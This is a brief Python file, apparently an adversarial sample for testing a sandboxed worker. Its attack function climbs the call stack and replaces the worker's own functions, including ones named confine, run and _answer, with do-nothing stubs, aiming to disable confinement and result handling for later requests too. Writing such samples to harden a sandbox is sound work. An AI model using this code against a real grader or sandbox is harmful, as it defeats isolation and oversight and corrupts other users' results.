"""Wants the worker's own functions replaced, for itself and for whoever is served next."""

import sys


def attack():
    frame = sys._getframe(0)
    while frame:
        for name in ("run", "pack", "_answer", "failure_of", "_be_child", "_reap", "confine"):
            if name in frame.f_globals:
                frame.f_globals[name] = lambda *args, **kwargs: None
        frame = frame.f_back
